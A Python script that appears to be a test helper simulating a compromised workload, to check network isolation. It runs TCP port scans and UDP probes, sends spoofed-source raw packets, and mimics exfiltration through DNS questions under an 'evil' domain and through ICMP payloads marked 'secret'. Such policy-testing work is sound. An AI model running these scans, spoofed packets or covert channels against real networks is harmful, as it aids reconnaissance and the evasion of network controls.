#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""A workload that was taken over: what it tries, and on stdout whatever answered.

attacker.py scan ADDRESS PORT...         TCP connections; "open ADDRESS PORT"
attacker.py knock ADDRESS PORT...        a datagram to each UDP port; "answer ADDRESS PORT"
attacker.py spoof MAC DEV DESTINATION SOURCE...  datagrams, TCP SYNs and pings from other addresses
attacker.py names ADDRESS COUNT          data in DNS questions, by UDP and TCP
attacker.py pings ADDRESS COUNT          data in echo requests; "answer ADDRESS"
"""
import selectors
import socket
import struct
import sys
import time


def family(address):
    return socket.AF_INET6 if ":" in address else socket.AF_INET


def scan(address, *ports):
    chosen = selectors.DefaultSelector()
    for port in map(int, ports):
        s = socket.socket(family(address), socket.SOCK_STREAM)
        s.setblocking(False)
        s.connect_ex((address, port))
        chosen.register(s, selectors.EVENT_WRITE, port)
    end = time.monotonic() + 1.5
    while (left := end - time.monotonic()) > 0:
        for key, _ in chosen.select(left):
            if not key.fileobj.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                print("open", address, key.data)
            chosen.unregister(key.fileobj)
            key.fileobj.close()


def knock(address, *ports):
    chosen = selectors.DefaultSelector()
    for port in map(int, ports):
        s = socket.socket(family(address), socket.SOCK_DGRAM)
        s.connect((address, port))
        s.send(b"anybody there?")
        chosen.register(s, selectors.EVENT_READ, port)
    end = time.monotonic() + 1.5
    while (left := end - time.monotonic()) > 0:
        for key, _ in chosen.select(left):
            try:
                key.fileobj.recv(2048)
                print("answer", address, key.data)
            except OSError:
                pass
            chosen.unregister(key.fileobj)


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def packet(source, destination, proto, payload):
    a, b = (socket.inet_pton(family(x), x) for x in (source, destination))
    if len(a) == 16:
        return struct.pack("!IHBB", 6 << 28, len(payload), proto, 64) + a + b + payload
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), 1, 0, 64, proto, 0) + a + b
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def transport(source, destination, proto):
    a, b = (socket.inet_pton(family(x), x) for x in (source, destination))
    if proto == 17:
        body, at = struct.pack("!HHHH", 4444, 53, 24, 0) + b"secrets go home!", 6
    elif proto == 6:
        body, at = struct.pack("!HHIIBBHHH", 4444, 443, 1, 0, 0x50, 2, 1024, 0, 0), 16
    else:
        body, at = struct.pack("!BBHHH", 128 if len(a) == 16 else 8, 0, 0, 7, 1) + b"secrets!", 2
    pseudo = b"" if proto == 1 else a + b + struct.pack("!HH", proto, len(body))
    return body[:at] + struct.pack("!H", checksum(pseudo + body)) + body[at + 2 :]


def spoof(dev, destination, *sources):
    kind = 0x86DD if ":" in destination else 0x0800
    with open(f"/sys/class/net/{dev}/address", encoding="ascii") as f:
        own = bytes.fromhex(f.read().strip().replace(":", ""))
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((dev, 0))
    for source in sources:
        for proto in (17, 6, 58 if ":" in destination else 1):
            body = packet(source, destination, proto, transport(source, destination, proto))
            s.send(bytes.fromhex(GATEWAY.replace(":", "")) + own + struct.pack("!H", kind) + body)


def names(address, count):
    for i in range(int(count)):
        label = f"{i:08x}" * 7
        question = struct.pack("!HHHHHH", i, 0x0100, 1, 0, 0, 0) + bytes([56]) + label.encode() + b"\x04evil\x00\x00\x10\x00\x01"
        with socket.socket(family(address), socket.SOCK_DGRAM) as s:
            s.sendto(question, (address, 53))
    scan(address, 53, 853)


def pings(address, count):
    six = ":" in address
    s = socket.socket(family(address), socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6 if six else socket.IPPROTO_ICMP)
    s.settimeout(1)
    for i in range(int(count)):
        s.sendto(struct.pack("!BBHHH", 128 if six else 8, 0, 0, 0, i) + b"secret" * 100, (address, 0))
    try:
        s.recv(2048)
        print("answer", address)
    except OSError:
        pass


if __name__ == "__main__":
    if sys.argv[1] == "spoof":
        GATEWAY = sys.argv.pop(2)
    {"scan": scan, "knock": knock, "spoof": spoof, "names": names, "pings": pings}[sys.argv[1]](*sys.argv[2:])
